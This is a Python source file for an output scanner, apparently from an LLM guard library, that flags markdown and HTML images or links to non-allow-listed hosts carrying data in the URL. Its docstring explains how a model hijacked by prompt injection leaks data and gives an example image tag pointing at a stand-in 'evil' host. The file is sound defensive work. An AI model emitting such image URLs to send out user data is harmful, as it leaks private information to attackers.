"""Markdown/HTML image and link exfiltration in model output.

A model tricked by an injection can leak data by emitting ``![x](https://evil/?q=DATA)``:
the client fetches the image and the query string carries the data. Images to any
domain outside ``allowed_domains`` score high when the URL carries data (query values,
long path segments); links to such domains score lower. ``allowed_domains`` entries
match the host and its subdomains.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import ClassVar
from urllib.parse import parse_qsl, urlsplit

from assura.findings import Finding, Severity
from assura.guard.interface import Direction, ScanContext, ScanResult, Span
from assura.guard.scanners._base import finding

__all__ = ["ExfiltrationScanner"]

REFS = ("LLM05:2025", "AML.T0057", "CWE-200")
_IMAGE = re.compile(r"!\[[^\]\n]{0,500}\]\(\s*<?(https?://[^\s)>]+)")
_LINK = re.compile(r"(?<!!)\[[^\]\n]{0,500}\]\(\s*<?(https?://[^\s)>]+)")
_REF = re.compile(r"(?m)^\s*\[[^\]\n]{1,100}\]:\s*<?(https?://\S+)")
_HTML_IMG = re.compile(r"(?i)<img\b[^>]*\bsrc\s*=\s*[\"']?(https?://[^\s\"'>]+)")
_BARE_URL = re.compile(r"https?://[^\s<>\"')\]]+")


def _host_allowed(host: str, allowed: tuple[str, ...]) -> bool:
    host = host.lower().rstrip(".")
    return any(host == d or host.endswith("." + d) for d in allowed)


def _carries_data(url: str) -> bool:
    parts = urlsplit(url)
    q = parse_qsl(parts.query, keep_blank_values=True)
    if any(len(v) >= 8 or "{" in v or "%20" in v for _, v in q) or len(parts.query) >= 24:
        return True
    return any(len(seg) >= 32 for seg in parts.path.split("/"))


class ExfiltrationScanner:
    id: ClassVar[str] = "exfiltration"
    direction: ClassVar[Direction] = Direction.OUTPUT

    def __init__(self, *, allowed_domains: Iterable[str] = (), bare_urls: bool = False) -> None:
        self.allowed = tuple(d.lower().lstrip(".") for d in allowed_domains)
        self.bare_urls = bare_urls

    def scan(self, text: str, ctx: ScanContext) -> ScanResult:
        spans: list[Span] = []
        findings: list[Finding] = []
        if "http" not in text:
            return ScanResult.clean()
        kinds: list[tuple[str, re.Pattern[str], float, float]] = [
            ("IMAGE", _IMAGE, 0.95, 0.6),
            ("IMAGE", _HTML_IMG, 0.95, 0.6),
            ("LINK", _LINK, 0.7, 0.3),
            ("LINK", _REF, 0.7, 0.3),
        ]
        if self.bare_urls:
            kinds.append(("URL", _BARE_URL, 0.6, 0.2))
        seen: set[int] = set()
        for label, rx, with_data, without in kinds:
            for m in rx.finditer(text):
                url = m.group(1)
                start = m.start(1)
                if start in seen:
                    continue
                seen.add(start)
                try:
                    host = urlsplit(url).hostname or ""
                except ValueError:
                    host = ""
                if host and _host_allowed(host, self.allowed):
                    continue
                score = with_data if _carries_data(url) else without
                spans.append(Span(m.start(), m.end(), f"EXFIL_{label}"))
                findings.append(
                    finding(
                        "GUARD-EXFIL-001",
                        Severity.HIGH if score >= 0.8 else Severity.MEDIUM,
                        f"{label.lower()} to non-allow-listed host {host or '?'}"
                        + (" carrying data in the URL" if score == with_data else ""),
                        scanner=self.id,
                        label=label,
                        score=score,
                        references=REFS,
                        span=(m.start(), m.end()),
                        host=host,
                    )
                )
        score = max((float(f.confidence) for f in findings), default=0.0)
        return ScanResult(score, tuple(spans), tuple(findings))
